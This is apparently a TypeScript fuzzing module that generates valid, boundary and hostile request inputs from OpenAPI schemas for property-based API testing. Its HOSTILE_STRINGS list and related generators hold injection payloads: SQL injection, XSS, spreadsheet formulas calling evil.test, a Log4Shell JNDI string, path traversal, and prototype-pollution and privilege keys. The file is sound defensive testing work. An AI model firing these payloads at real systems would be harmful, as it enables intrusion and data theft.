import fc from 'fast-check';

/** The part of an OpenAPI 3.0 schema object the generators read. */
export interface Schema {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  items?: Schema;
  minItems?: number;
  maxItems?: number;
  properties?: Record<string, Schema>;
  required?: string[];
  nullable?: boolean;
  oneOf?: Schema[];
  allOf?: Schema[];
}

/** Follows `$ref` (and a single-entry `allOf`, how the Swagger plugin wraps a referenced DTO) to the schema itself. */
export type Resolve = (schema: Schema) => Schema;

export const HUGE_STRING_LENGTH = 100_000;

/** Strings that have broken parsers, SQL, HTML, spreadsheets and date or number conversions elsewhere. */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.test","click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,1)',
  '@SUM(1)',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00',
  'a\u0000b',
  '\u0000',
  '🦀🔥👩‍👩‍👧‍👦',
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  '\uD800',
  '\uFEFF',
  ' ',
  '',
  'NaN',
  'Infinity',
  '-Infinity',
  'null',
  'undefined',
  'true',
  '-1',
  '0',
  '1e309',
  '0x7fffffff',
  '99999999999999999999999',
  '-99999999999999999999999',
  '2147483648',
  '1.5',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'not-a-uuid',
  '123e4567-e89b-12d3-a456-42661417400',
  '123e4567-e89b-12d3-a456-4266141740000',
  '{123e4567-e89b-12d3-a456-426614174000}',
  '2024-02-30',
  '2024-13-01T00:00:00Z',
  '0000-00-00',
  '0000-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '10000-01-01T00:00:00Z',
  '2024-01-01T25:61:61Z',
  'yesterday',
  '__proto__',
  'constructor',
  'created_at',
  '-name',
  'name;',
];

export const HOSTILE_NUMBERS: readonly number[] = [-1, 0, -0.5, 1.5, 2 ** 31 - 1, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 2, Number.MAX_SAFE_INTEGER, 1e21, 1e308, -1e308, 5e-324];

/** Keys that reach Object.prototype when code copies a body key by key. */
export const PROTOTYPE_KEYS: readonly string[] = ['__proto__', 'constructor', 'prototype'];

const hugeString = fc.constantFrom('x'.repeat(HUGE_STRING_LENGTH), '𝕏'.repeat(HUGE_STRING_LENGTH / 4), `${"' OR 1=1 --".repeat(HUGE_STRING_LENGTH / 11)}`);

/** Nests a value `depth` levels deep in arrays or objects. */
function nested(depth: number, asObject: boolean): unknown {
  let value: unknown = 'deep';
  for (let level = 0; level < depth; level++) value = asObject ? { a: value } : [value];
  return value;
}

/** An object that has `key` as an own, enumerable property (an object literal `{ __proto__: x }` would set the prototype instead). */
export function withKey(object: object, key: string, value: unknown): Record<string, unknown> {
  const copy = { ...object };
  Object.defineProperty(copy, key, { value, enumerable: true, configurable: true, writable: true });
  return copy as Record<string, unknown>;
}

/** Any JSON value a client should never send where the document expects something else. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  { arbitrary: fc.constantFrom(...HOSTILE_NUMBERS), weight: 3 },
  { arbitrary: fc.constantFrom<unknown>(true, false, null, [], {}, [null], { $gt: '' }, ['a', 'b']), weight: 2 },
  { arbitrary: hugeString, weight: 1 },
  { arbitrary: fc.constantFrom(nested(1000, true), nested(1000, false)), weight: 1 },
  { arbitrary: fc.constantFrom(...PROTOTYPE_KEYS).map((key) => withKey({}, key, { polluted: true })), weight: 1 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 30 }), weight: 2 },
);

function stringBounds(schema: Schema): { minLength: number; maxLength: number } {
  const minLength = schema.minLength ?? 0;
  return { minLength, maxLength: Math.max(minLength, Math.min(schema.maxLength ?? 40, 40)) };
}

function validString(schema: Schema): fc.Arbitrary<string> {
  switch (schema.format) {
    case 'uuid':
      return fc.uuid();
    case 'date-time':
      return fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true }).map((date) => date.toISOString());
    case 'date':
      return fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10));
    case 'email':
      return fc.emailAddress().filter((email) => email.length <= (schema.maxLength ?? 254));
  }
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern)).filter((text) => text.length >= (schema.minLength ?? 0) && text.length <= (schema.maxLength ?? Infinity));
  // Printable text mostly, with whatever Unicode fast-check finds now and then.
  return fc.oneof({ arbitrary: fc.string(stringBounds(schema)), weight: 3 }, { arbitrary: fc.string({ ...stringBounds(schema), unit: 'grapheme' }), weight: 1 }).filter((text) => text.trim().length >= (schema.minLength ?? 0));
}

function validNumber(schema: Schema): fc.Arbitrary<number> {
  const min = schema.minimum ?? -1_000_000;
  const max = schema.maximum ?? 1_000_000;
  return fc.oneof(fc.integer({ min: Math.ceil(min), max: Math.floor(max) }), fc.double({ min, max, noNaN: true, noDefaultInfinity: true }));
}

/** A value the schema accepts, as far as a schema can say (required keys, enums, formats, bounds, patterns). */
export function validValue(schema: Schema, resolve: Resolve): fc.Arbitrary<unknown> {
  const resolved = resolve(schema);
  const value = validOf(resolved, resolve);
  return resolved.nullable ? fc.option(value, { freq: 8, nil: null }) : value;
}

function validOf(schema: Schema, resolve: Resolve): fc.Arbitrary<unknown> {
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.oneOf) return fc.oneof(...schema.oneOf.map((option) => validValue(option, resolve)));
  switch (schema.type) {
    case 'string':
      return validString(schema);
    case 'number':
    case 'integer':
      return validNumber(schema);
    case 'boolean':
      return fc.boolean();
    case 'array': {
      const minLength = schema.minItems ?? 0;
      return fc.array(validValue(schema.items ?? {}, resolve), { minLength, maxLength: Math.max(minLength, Math.min(schema.maxItems ?? 3, 3)) });
    }
    case 'object':
    default: {
      const properties = Object.entries(schema.properties ?? {});
      if (!properties.length) return fc.constant({});
      return fc.record(Object.fromEntries(properties.map(([key, property]) => [key, validValue(property, resolve)])), { requiredKeys: schema.required ?? [] });
    }
  }
}

/** Values at and just past the edges the schema draws: lengths, bounds, empty and padded values. */
export function boundaryValue(schema: Schema, resolve: Resolve): fc.Arbitrary<unknown> {
  const resolved = resolve(schema);
  if (resolved.enum) {
    const first = String(resolved.enum[0]);
    return fc.constantFrom<unknown>(first.toUpperCase(), ` ${first} `, `${first}x`, '', resolved.enum);
  }
  switch (resolved.type) {
    case 'string': {
      const lengths = [0, 1, resolved.minLength, resolved.minLength === undefined ? undefined : resolved.minLength - 1, resolved.maxLength, resolved.maxLength === undefined ? undefined : resolved.maxLength + 1];
      const sizes = lengths.filter((length): length is number => length !== undefined && length >= 0);
      return fc.oneof(
        fc.constantFrom(...sizes).map((length) => 'a'.repeat(length)),
        fc.constantFrom(...sizes).map((length) => `  ${'é'.repeat(Math.max(0, length - 4))}  `),
        validString(resolved).map((text) => `  ${text}  `),
      );
    }
    case 'number':
    case 'integer': {
      const edges = [resolved.minimum, resolved.maximum].filter((edge): edge is number => edge !== undefined);
      return fc.constantFrom(0, -1, 1, 2 ** 31 - 1, 2 ** 31, ...edges, ...edges.flatMap((edge) => [edge - 1, edge + 1, edge - 0.001, edge + 0.001]));
    }
    case 'boolean':
      return fc.constantFrom<unknown>('true', 'false', 0, 1);
    case 'array': {
      const item = validValue(resolved.items ?? {}, resolve);
      const counts = [0, resolved.minItems, resolved.maxItems === undefined ? undefined : resolved.maxItems + 1].filter((count): count is number => count !== undefined && count >= 0);
      return fc.constantFrom(...counts).chain((count) => fc.array(item, { minLength: Math.min(count, 50), maxLength: Math.min(count, 50) }).map((items) => padTo(items, count)));
    }
    default:
      return fc.constantFrom({}, []);
  }
}

/** Repeats the generated items up to `count` (a long valid array without generating every item). */
function padTo(items: unknown[], count: number): unknown[] {
  if (!items.length) return items;
  return Array.from({ length: count }, (_, index) => items[index % items.length]);
}

/** A JSON object body for an object schema: valid, at its boundaries, or hostile (a wrong value, a missing or extra key, not an object at all). */
export function bodyValue(schema: Schema, resolve: Resolve): fc.Arbitrary<unknown> {
  const resolved = resolve(schema);
  const valid = validValue(resolved, resolve) as fc.Arbitrary<Record<string, unknown>>;
  const keys = Object.keys(resolved.properties ?? {});
  const anyKey = keys.length ? fc.constantFrom(...keys) : fc.constant('field');
  const replaced = (value: (key: string) => fc.Arbitrary<unknown>) =>
    fc.tuple(valid, anyKey).chain(([body, key]) => value(key).map((replacement) => withKey(body, key, replacement)));
  const boundaryBody = replaced((key) => boundaryValue(resolved.properties?.[key] ?? {}, resolve));
  const wrongValue = replaced(() => hostileValue);
  const required = resolved.required ?? [];
  const missingRequired = required.length
    ? fc.tuple(valid, fc.constantFrom(...required)).map(([body, key]) => Object.fromEntries(Object.entries(body).filter(([name]) => name !== key)))
    : valid;
  const extraKey = fc.tuple(valid, fc.oneof(fc.constantFrom(...PROTOTYPE_KEYS, 'is_admin', 'org_id', 'role'), fc.string({ minLength: 1, maxLength: 10 })), hostileValue).map(([body, key, value]) => withKey(body, key, value));
  return fc.oneof(
    { arbitrary: valid, weight: 4 },
    { arbitrary: boundaryBody, weight: 3 },
    { arbitrary: wrongValue, weight: 3 },
    { arbitrary: missingRequired, weight: 1 },
    { arbitrary: extraKey, weight: 1 },
    { arbitrary: hostileValue, weight: 1 },
  );
}

/** A query parameter's value as sent: one string (valid, boundary or hostile), repeated keys, or bracket syntax. */
export type QueryValue = string | string[] | { raw: string };

export function queryValue(schema: Schema, resolve: Resolve): fc.Arbitrary<QueryValue> {
  const asText = (value: unknown) => (typeof value === 'string' ? value : JSON.stringify(value));
  return fc.oneof(
    { arbitrary: validValue(schema, resolve).map(asText), weight: 4 },
    { arbitrary: boundaryValue(schema, resolve).map(asText), weight: 2 },
    { arbitrary: hostileValue.map(asText).filter((text) => text.length < 4_000), weight: 3 },
    { arbitrary: fc.array(validValue(schema, resolve).map(asText), { minLength: 2, maxLength: 3 }), weight: 1 },
    { arbitrary: fc.constantFrom({ raw: '[a]=1' }, { raw: '[]=1' }, { raw: '=%E0%A4%A' }, { raw: '=%' }, { raw: '[__proto__][x]=1' }), weight: 1 },
  );
}

/** Percent-encodes text as a client would send it: a lone UTF-16 surrogate cannot be sent, so it goes as U+FFFD. */
export function encodeText(text: string): string {
  return encodeURIComponent(Buffer.from(text, 'utf8').toString('utf8'));
}

/** A path parameter that is not a real resource: a random UUID, a hostile string (percent-encoded), or broken percent-encoding. */
export const fuzzedPathSegment: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.uuid(), weight: 3 },
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS).filter((text) => text !== '').map(encodeText), weight: 4 },
  { arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }).map(encodeText), weight: 2 },
  { arbitrary: fc.constantFrom('%E0%A4%A', '%', '%zz', '%2e%2e', 'x'.repeat(5_000)), weight: 1 },
);
